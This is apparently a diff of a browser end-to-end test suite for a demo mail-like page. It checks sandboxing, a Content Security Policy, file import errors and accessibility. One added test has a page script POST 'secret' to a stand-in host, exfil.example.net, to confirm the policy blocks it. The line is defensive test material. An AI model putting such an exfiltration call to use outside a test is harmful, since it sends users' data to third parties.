@@ -37,8 +37,8 @@ describe("demo page", { timeout: 120_000 }, () => {
   });
 
   /** A fresh browser profile (own IndexedDB) with the network cut off except the demo server. */
-  async function newPage() {
-    const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1200, height: 900 } });
+  async function newPage(options = {}) {
+    const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1200, height: 900 }, ...options });
     await context.route("**/*", (route) => {
       const url = route.request().url();
       if (url.startsWith(base) || url.startsWith("data:") || url.startsWith("blob:")) return route.continue();
@@ -115,6 +115,15 @@ describe("demo page", { timeout: 120_000 }, () => {
     assert.match(await inside.evaluate(() => document.body.innerText), /Error 809/, "the HTML body renders");
     assert.equal(await inside.evaluate(() => document.images[0].naturalWidth), 0, "the remote image did not load");
     assert.ok(!offsite.some((u) => u.includes("tracker.example.net")), `remote image requested: ${offsite}`);
+    // The page's CSP: nothing can be sent to another origin, even by a script of the page.
+    const violated = await page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true });
+          fetch("https://exfil.example.net/", { method: "POST", body: "secret" }).catch(() => {});
+        }),
+    );
+    assert.equal(violated, "connect-src");
     // Full-page screenshots leave out-of-process frames blank: the HTML article on its own.
     await article(page, "03").screenshot({ path: join(ARTIFACTS, "agent-html-message.png") });
     await page.waitForTimeout(300); // let the sandboxed frames paint
@@ -332,6 +341,7 @@ describe("demo page", { timeout: 120_000 }, () => {
     await page.setInputFiles("#import-file", file("junk.bin"));
     await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "");
     assert.match(await page.textContent("#import-msg"), /junk\.bin: not imported: .+\[/);
+    assert.deepEqual(page.errors, []);
     await page.context().close();
   });
 
@@ -413,7 +423,8 @@ describe("demo page", { timeout: 120_000 }, () => {
   });
 
   test("accessibility: axe-core finds no WCAG 2 A/AA or best-practice violations; controls are keyboard reachable", async () => {
-    const page = await newPage();
+    // axe-core is injected as an inline script, which the page's CSP rightly refuses.
+    const page = await newPage({ bypassCSP: true });
     const axe = readFileSync(join(dirname(fileURLToPath(import.meta.resolve("axe-core"))), "axe.min.js"), "utf8");
     const audit = async (name) => {
       await page.addScriptTag({ content: axe });
